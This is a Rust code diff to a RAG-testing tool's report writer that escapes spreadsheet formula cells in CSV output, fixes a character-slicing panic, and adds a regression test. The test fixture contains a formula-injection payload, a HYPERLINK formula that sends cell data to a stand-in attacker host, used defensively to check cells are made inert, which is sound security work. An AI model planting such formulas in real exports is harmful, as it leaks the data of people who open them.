@@ -104,7 +104,8 @@ pub fn write_csv(inputs: &ReportInputs<'_>, out: impl std::io::Write) -> Result<
         let found = attribution(case, answer, v);
         let cause = found.as_ref().map_or("", |a| a.cause.as_str());
         let evidence = found.as_ref().map_or("", |a| a.evidence.as_str());
-        w.write_record([
+        // Every cell inert in a spreadsheet: an answer or a document may start with `=`.
+        w.write_record(ragtester_core::spreadsheet::inert_row([
             v.case_id.as_str(),
             v.config_id.as_str(),
             labels.get(v.config_id.as_str()).map_or("", String::as_str),
@@ -148,7 +149,7 @@ pub fn write_csv(inputs: &ReportInputs<'_>, out: impl std::io::Write) -> Result<
             answer
                 .and_then(|a| a.rewritten_query.as_deref())
                 .unwrap_or(""),
-        ])?;
+        ]))?;
     }
     w.flush()?;
     Ok(())
@@ -241,7 +242,7 @@ fn write_testcase<W: std::io::Write>(
     let turn = case.turn.as_ref().map_or(String::new(), |t| {
         format!(
             "[conversation {} turn {}/{}] ",
-            &t.conversation[..t.conversation.len().min(8)],
+            t.conversation.chars().take(8).collect::<String>(),
             t.index,
             t.of
         )
@@ -370,5 +371,63 @@ mod tests {
                 && !xml.contains('\u{0}')
         );
         assert!(!xml.contains("<script>"));
+    }
+
+    /// A conversation id of several-byte characters (as an imported log may carry) names its turn without
+    /// cutting a character; cells a spreadsheet would evaluate are written inert.
+    #[test]
+    fn hostile_cells_neither_panic_nor_run_in_a_spreadsheet() {
+        let config = Configuration::new(
+            "offline".into(),
+            "none".into(),
+            RetrieverKind::Bm25,
+            3,
+            ChunkingSettings::default(),
+            Fusion::default(),
+        );
+        let mut turn = case("t", "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")");
+        turn.turn = Some(ragtester_core::Turn {
+            conversation: "对话一二三四五六七".into(),
+            index: 2,
+            of: 3,
+            kind: ragtester_core::ConversationKind::FollowUp,
+            step: ragtester_core::TurnStep::FollowUp,
+            standalone: None,
+        });
+        turn.expected_answer = "@SUM(1+1)".into();
+        let cases = vec![turn];
+        let verdicts = vec![verdict("t", &config.id, Some(false), VerdictStatus::Ok)];
+        let inputs = ReportInputs {
+            prices: &Default::default(),
+            documents: &[],
+            cases: &cases,
+            configs: std::slice::from_ref(&config),
+            answers: &[],
+            verdicts: &verdicts,
+            oracle: None,
+            audit: None,
+            pairwise: None,
+            chunk_coverage: &Default::default(),
+            skipped: &[],
+            embedder_profiles: &[],
+        };
+        let xml = render_junit(&inputs).unwrap();
+        assert!(
+            xml.contains("[conversation 对话一二三四五六 turn 2/3]"),
+            "{xml}"
+        );
+        let csv_text = render_csv(&inputs).unwrap();
+        let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(csv_text.as_bytes())
+            .records()
+            .collect::<Result<_, _>>()
+            .unwrap();
+        assert!(rows[0][30].starts_with("'=HYPERLINK"), "{:?}", &rows[0][30]);
+        assert_eq!(&rows[0][31], "'@SUM(1+1)");
+        for cell in rows[0].iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '@']),
+                "a live formula cell: {cell:?}"
+            );
+        }
     }
 }
